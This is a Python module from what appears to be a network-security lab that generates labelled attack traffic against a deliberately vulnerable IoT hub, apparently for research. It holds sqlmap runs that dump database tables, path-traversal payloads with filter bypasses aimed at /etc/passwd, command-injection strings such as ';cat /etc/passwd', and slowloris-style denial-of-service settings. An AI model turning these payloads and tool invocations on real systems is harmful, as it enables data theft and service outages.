"""Web attacks on the vulnerable IoT hub of :mod:`amlhp.lab.web_services`.

* ``web_sqli``: sqlmap finds and exploits the SQL injections (device lookup, search).
* ``web_dirbrute``: dirb guesses paths from a Debian wordlist (mostly 404s, some hits).
* ``web_exploit``: curl tries path traversal and command injection payloads of our own.
* ``slow_dos``: slowhttptest holds many connections open (slowloris, slow POST, slow read).

sqlmap, dirb and slowhttptest cannot bind a source address: their packets come from the
kernel's default ``127.0.0.1`` and are labelled by the victim address only that tool talks
to. curl can (``--interface``), so ``web_exploit`` is marked by its attacker address.

Every run is bounded by a count (sqlmap by its level, risk and techniques; dirb by the
size of the word list; curl by the number of URLs; slowhttptest by its connections and
test length) and by a time limit, and every rate is modest: the lab shares two cores.
sqlmap is kept offline: no ``--update``, no ``--check-internet``, batch answers only,
and its session and output stay under the work dir.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

from amlhp.lab.scenario import AttackContext, Scenario, ToolRun, attacker, time_limit, units

DIRB_WORDLISTS = Path("/usr/share/dirb/wordlists")
#: paths of the app that are always in dirb's list, so that every run also finds some
DIRB_HITS = ("admin", "backup", "config", "robots.txt", "index.php", "login.php")

#: sqlmap's targets, one per run in turn: (path and query, parameter, techniques, lowest
#: level that finds it, what to fetch once it is found)
SQLMAP_TARGETS: tuple[tuple[str, str, str, int, tuple[str, ...]], ...] = (
    ("/api/device.php?id=1", "id", "BEU", 1, ("--tables", "--dump", "-T", "devices")),
    ("/search.php?q=cam", "q", "BU", 3, ("--dump", "-T", "users")),  # inside LIKE '%..%'
    ("/api/device.php?id=2", "id", "BT", 1, ("--banner", "--count")),
)

#: files a traversal tries to read (all world-readable, none secret)
TRAVERSAL_FILES = ("etc/passwd", "etc/hostname", "etc/os-release", "etc/group", "proc/version")
#: how each traversal is written: plain, URL-encoded, double-encoded, filter bypasses
TRAVERSAL_STEPS = ("../", "..%2f", "%2e%2e%2f", "%2e%2e/", "..%252f", "....//", "..\\/", "..%c0%af")
#: injected commands: read-only, none of them opens a network connection
INJECTIONS = (
    ";id", "|id", "&&id", "||id", "`id`", "$(id)", ";uname -a", "|uname -a", "$(uname -a)",
    "`uname -r`", ";whoami", "%0aid", ";cat /etc/passwd", "|cat /etc/hostname",
    ";ls -la /", "&&echo INJECTED-$((6*7))", ";echo $(whoami)-pwned", "|head -3 /etc/group",
)  # fmt: skip


# -- sqlmap ---------------------------------------------------------------------------
def _sqli(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    t = ctx.topology
    requests = units(s, packets, 30, 5000)
    path, param, technique, lowest, extra = SQLMAP_TARGETS[ctx.iteration % len(SQLMAP_TARGETS)]
    # more packets wanted: more boundaries and payloads per technique (more requests)
    level = str(max(lowest, 1 if requests < 300 else 2))
    out = ctx.workdir / "sqlmap"
    out.mkdir(parents=True, exist_ok=True)
    limit = time_limit(ctx, 120)
    argv = [
        "sqlmap",
        "-u",
        f"http://{s.target_address(t)}:{t.ports.http}{path}",
        "-p",
        param,
        "--batch",
        "--answers",
        "crack=N,dict=N,store=N",
        "--level",
        level,
        "--risk",
        "1",
        "--technique",
        technique,
        "--threads",
        "2",
        "--time-sec",
        "1",
        "--timeout",
        "5",
        "--retries",
        "1",
        "--flush-session",
        "--output-dir",
        str(out),
        "--disable-coloring",
        *extra,
    ]
    return ToolRun(argv, timeout_s=limit, cwd=ctx.workdir)


# -- dirb -----------------------------------------------------------------------------
def _words(name: str) -> list[str]:
    lines = (DIRB_WORDLISTS / name).read_text(errors="replace").splitlines()
    return [w.strip() for w in lines if w.strip() and not w.startswith("#")]


def _dirbrute(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    t = ctx.topology
    common = _words("common.txt")
    source = common if packets / s.packets_per_unit <= len(common) else _words("big.txt")
    count = units(s, packets, 20, len(source))
    words = sorted({*ctx.rng.sample(source, min(count, len(source))), *DIRB_HITS})
    folder = ctx.workdir / "wordlists"
    folder.mkdir(parents=True, exist_ok=True)
    wordlist = folder / f"dirb-{ctx.iteration}.txt"
    wordlist.write_text("\n".join(words) + "\n")
    limit = time_limit(ctx, 120)
    argv = [
        "dirb",
        f"http://{s.target_address(t)}:{t.ports.http}/",
        str(wordlist),
        "-S",  # silent: no progress line per word
        "-r",  # not recursive: the list bounds the requests
        "-z",
        "5",  # 5 ms between requests: at most about 200 a second
        "-o",
        str(folder / f"dirb-{ctx.iteration}.out"),
    ]
    return ToolRun(argv, timeout_s=limit, cwd=ctx.workdir)


# -- curl: traversal and command injection --------------------------------------------
def exploit_paths() -> list[str]:
    """Every traversal and injection request path (and query) of ``web_exploit``."""
    paths = []
    for target in TRAVERSAL_FILES:
        for step in TRAVERSAL_STEPS:
            for depth in (3, 8, 16):
                paths.append(f"/view.php?file={step * depth}{target}")
        paths.append(f"/view.php?file={quote('../' * 12 + target, safe='')}")
        paths.append(f"/view.php?file={'../' * 12}{target}%00.txt")
        paths.append(f"/{'../' * 6}{target}")  # in the path itself (needs --path-as-is)
        paths.append(f"/files/{'..%2f' * 6}{target}")
    for injection in INJECTIONS:
        for prefix in ("127.0.0.1", "lab.iot", ""):
            raw = prefix + injection
            paths.append(f"/diag.php?host={quote(raw, safe='')}")
            paths.append(f"/diag.php?host={quote(raw, safe=';|&$()`/-.')}")
    return paths


def _exploit(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    t = ctx.topology
    count = units(s, packets, 5, 400)
    paths = exploit_paths()
    ctx.rng.shuffle(paths)
    base = f"http://{t.services}:{t.ports.webapp}"
    # past the list's end, the same payloads again with a parameter that makes them new
    urls = [
        base + paths[i % len(paths)] + ("" if i < len(paths) else f"&r={ctx.iteration}-{i}")
        for i in range(count)
    ]
    limit = time_limit(ctx, 20 + count / 25)
    argv = [
        "curl",
        "--interface",
        str(s.marker_address(t)),
        "--silent",
        "--show-error",
        "--globoff",  # [] and {} are payload, not curl's URL globbing
        "--path-as-is",  # keep ../ in the path: the traversal is the point
        "--rate",
        "50/s",
        "--connect-timeout",
        "3",
        "--max-time",
        "5",
        "--user-agent",
        "Mozilla/5.0 (X11; Linux x86_64) exploit-kit/0.9",
        "--write-out",
        "\n[%{http_code}] %{url_effective}\n",
        *urls,
    ]
    return ToolRun(argv, timeout_s=limit, cwd=ctx.workdir)


# -- slowhttptest ---------------------------------------------------------------------
SLOW_MODES: tuple[tuple[str, ...], ...] = (
    ("-H",),  # slowloris: headers never end
    ("-B", "-s", "8192"),  # slow POST body (R-U-Dead-Yet)
    ("-X", "-w", "512", "-y", "1024", "-n", "2", "-z", "32"),  # slow read of a big file
)
SLOW_PATHS = ("/", "/login.php", "/firmware/hub-fw-2.4.1.bin")


def _slow_dos(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    t = ctx.topology
    mode = ctx.iteration % len(SLOW_MODES)
    seconds = max(4, min(12, int(ctx.time_left_s) - 4))
    # about 7 packets to open and close a connection, 2 a follow-up tick (-i 2)
    per_connection = 7 + seconds
    connections = max(30, min(300, packets // per_connection + 1))
    argv = [
        "slowhttptest",
        *SLOW_MODES[mode],
        "-c",
        str(connections),
        "-r",
        "25",  # new connections per second
        "-l",
        str(seconds),
        "-i",
        "2",
        "-p",
        "3",
        "-u",
        f"http://{s.target_address(t)}:{t.ports.http}{SLOW_PATHS[mode]}",
    ]
    return ToolRun(argv, timeout_s=time_limit(ctx, seconds + 10), cwd=ctx.workdir)


WEB_SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        "web_sqli", "web_sqli", "sqlmap",
        "SQL injection detection and exploitation of the IoT hub's device lookup and search",
        lambda t: t.sqli_victim, lambda t: t.sqli_victim, _sqli, packets_per_unit=10.0,
    ),
    Scenario(
        "web_dirbrute", "web_dirbrute", "dirb",
        "web content discovery: paths from dirb's Debian wordlists, mostly 404s",
        lambda t: t.dirbrute_victim, lambda t: t.dirbrute_victim, _dirbrute,
        packets_per_unit=2.2,
    ),
    Scenario(
        "web_exploit", "web_exploit", "curl",
        "path traversal and command injection attempts against the IoT hub web app",
        attacker(13), lambda t: t.services, _exploit, packets_per_unit=3.0,
    ),
    Scenario(
        "slow_dos", "slow_dos", "slowhttptest",
        "slow HTTP denial of service: slowloris, slow POST and slow read in turn",
        lambda t: t.slowdos_victim, lambda t: t.slowdos_victim, _slow_dos,
        packets_per_unit=15.0, stop_at_budget=False,  # the held connections are the attack
    ),
)  # fmt: skip
